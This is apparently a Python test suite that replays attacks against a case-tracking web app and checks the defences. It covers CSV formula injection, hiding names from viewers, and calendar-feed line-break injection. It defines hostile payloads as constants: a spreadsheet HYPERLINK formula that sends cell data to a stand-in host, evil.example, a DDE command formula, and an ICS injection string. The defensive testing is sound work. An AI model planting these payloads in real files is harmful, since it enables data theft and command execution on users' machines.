"""Attacks on what havenwatch writes out, replayed against a served instance (issue 12,
items 5, 6, 8 and 10): formula cells, quotes through import, names in sources, feeds and pages.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import httpx
from click.testing import CliRunner
from icalendar import Calendar
from sqlalchemy import select

from havenwatch.access.api_tokens import create_token
from havenwatch.access.scope import Scope
from havenwatch.cases.events import list_events
from havenwatch.cases.people import get_person
from havenwatch.cli import cli
from havenwatch.core.clock import today
from havenwatch.reports.publication import publish_release
from havenwatch.store.schema import cases, people
from tests.security.attacks.conftest import Served, csrf_token

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the file")'
COMMAND = "=cmd|' /C calc'!A0"
NAME = "Volokhonsky"


def _api(served: Served, username: str) -> httpx.Client:
    token = create_token(served.db, served.user_id(username), "attack", "test")
    return served.client(headers={"authorization": f"Bearer {token}"})


def _exported_rows(served: Served, folder: Path) -> list[list[str]]:
    """`havenwatch export --format csv` on the served instance, read as a spreadsheet would."""
    settings, target = served.world.settings, folder / "export.csv"
    result = CliRunner().invoke(
        cli,
        [
            "--data-dir", str(settings.data_dir),
            "--database-url", settings.database_url,
            "--key-file", str(settings.key_file),
            "export", "--format", "csv", "--output", str(target),
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(target.read_bytes().decode(), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_formulas_planted_through_the_api_are_exported_as_text(
    served: Served, tmp_path: Path
) -> None:
    api = _api(served, "caseworker-a")
    person = api.post(
        "/api/v1/people",
        json={"pseudonym": "+Wren", "identity": {"full_name": HYPERLINK}, "nationality": "RU"},
    )
    assert person.status_code == 201, person.text
    case = api.post(
        "/api/v1/cases", json={"person_id": person.json()["id"], "country": "RS", "title": COMMAND}
    )
    assert case.status_code == 201, case.text
    event = api.post(f"/api/v1/cases/{case.json()['id']}/events", json={"type": "entry_ban"})
    assert event.status_code == 201, event.text

    rows = _exported_rows(served, tmp_path)
    assert not _formula_cells(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'+Wren", f"'{HYPERLINK}"} <= cells
    publish_release(served.db, actor="test", k=5)  # the public CSVs serve published versions
    for path in ("/transfer/anonymised.csv", "/api/v1/exports/anonymised?format=csv"):
        client = (
            served.login("viewer-a") if path.startswith("/transfer") else _api(served, "viewer-a")
        )
        answer = client.get(path)
        assert answer.status_code == 200, path
        data = [line for line in answer.text.splitlines() if not line.startswith("#")]
        assert not _formula_cells(list(csv.reader(data))), path


def test_an_uploaded_export_keeps_quotes_commas_line_breaks_and_formulas_exactly(
    served: Served, tmp_path: Path
) -> None:
    notes = '-2+3, said "no", left\nthen @once\r\n' + COMMAND
    full_name = 'Ann "Nick" Smith, ' + HYPERLINK
    upload = io.StringIO()
    csv.writer(upload, lineterminator="\n").writerows(
        [
            ["person", "full_name", "nationality", "country", "event_type", "date", "served_on",
             "authority", "grounds", "deadline_days", "notes", "source_url"],
            ["'@Kestrel", full_name, "BY", "RS", "entry_ban", "2026-03", "", "border_police", "",
             "", "'" + notes, ""],
        ]
    )  # fmt: skip
    client = served.login("caseworker-a")
    answer = client.post(
        "/transfer/import",
        data={"csrf_token": csrf_token(client.get("/transfer").text)},
        files={"file": ("export.csv", upload.getvalue().encode(), "text/csv")},
    )
    assert answer.status_code == 200, answer.text[:500]

    with served.db.read() as conn:
        person_id = conn.execute(
            select(people.c.id).where(people.c.pseudonym == "@Kestrel")
        ).scalar_one()
        case_id = conn.execute(
            select(cases.c.id).where(cases.c.person_id == person_id)
        ).scalar_one()
    person = get_person(
        served.db, person_id, actor="test", with_identity=True, scope=Scope.everything()
    )
    assert person.identity.full_name == full_name
    (event,) = list_events(
        served.db, case_id, with_notes=True, actor="test", scope=Scope.everything()
    )
    assert event.notes == notes
    uploaded = list(csv.reader(io.StringIO(upload.getvalue(), newline="")))
    assert uploaded[1] in _exported_rows(served, tmp_path)


def test_viewers_read_no_names_in_sources_linked_to_cases(served: Served) -> None:
    ids = served.world.ids
    linked = _api(served, "caseworker-a").post(
        f"/api/v1/cases/{ids['case_a']}/events/{ids['event_a']}/sources",
        json={
            "url": "https://news.example.org/petr-volokhonsky-expelled",
            "title": f"Petr {NAME} expelled",
            "text": f"Petr {NAME}, an activist, was told to leave.",
        },
    )
    assert linked.status_code == 201, linked.text
    source_id = linked.json()["id"]
    viewer, viewer_api = served.login("viewer-a"), _api(served, "viewer-a")
    for page in ("/sources", f"/sources/{source_id}", f"/cases/{ids['case_a']}"):
        answer = viewer.get(page)
        assert answer.status_code == 200, page
        assert NAME not in answer.text and "volokhonsky" not in answer.text, page
    for path in ("/api/v1/sources", f"/api/v1/sources/{source_id}"):
        answer = viewer_api.get(path)
        assert answer.status_code == 200, path
        assert NAME not in answer.text and "volokhonsky" not in answer.text, path
    assert f"/sources/{source_id}" not in viewer.get("/search", params={"q": NAME}).text
    assert viewer_api.get("/api/v1/search", params={"q": NAME}).json()["sources"] == []
    caseworker = served.login("caseworker-a")
    assert NAME in caseworker.get(f"/sources/{source_id}").text
    assert f"/sources/{source_id}" in caseworker.get("/search", params={"q": NAME}).text


def test_a_case_title_with_line_breaks_cannot_break_or_inject_into_its_feed(
    served: Served,
) -> None:
    api = _api(served, "caseworker-a")
    title = "Alpha\r\nEND:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:planted"
    case = api.post(
        "/api/v1/cases",
        json={"person_id": served.world.ids["person_a"], "country": "RS", "title": title},
    )
    assert case.status_code == 201, case.text
    case_id = case.json()["id"]
    served_on = (today() - timedelta(days=2)).isoformat()
    event = api.post(
        f"/api/v1/cases/{case_id}/events",
        json={"type": "expulsion_order", "served_on": served_on, "deadline_days": 30},
    )
    assert event.status_code == 201, event.text

    feed = served.login("caseworker-a").get(f"/cases/{case_id}/deadlines.ics")
    assert feed.status_code == 200
    lines = feed.content.split(b"\r\n")
    assert lines.count(b"END:VCALENDAR") == 1
    assert not [line for line in lines if line.startswith(b"SUMMARY:planted")]
    deadlines = Calendar.from_ical(feed.content).walk("VEVENT")
    assert deadlines and lines.count(b"BEGIN:VEVENT") == len(deadlines)
    assert all("Alpha END:VCALENDAR BEGIN:VEVENT" in str(e.get("summary")) for e in deadlines)


def test_page_numbers_out_of_range_are_refused_not_crashed(served: Served) -> None:
    admin = served.login("admin-a")
    for page in ("/cases", "/people", "/sources", "/leads", "/admin/audit"):
        answer = admin.get(page, params={"page": "99999999999999999999"})
        assert answer.status_code == 400, page
    assert admin.get("/cases", params={"page": "3"}).status_code == 200
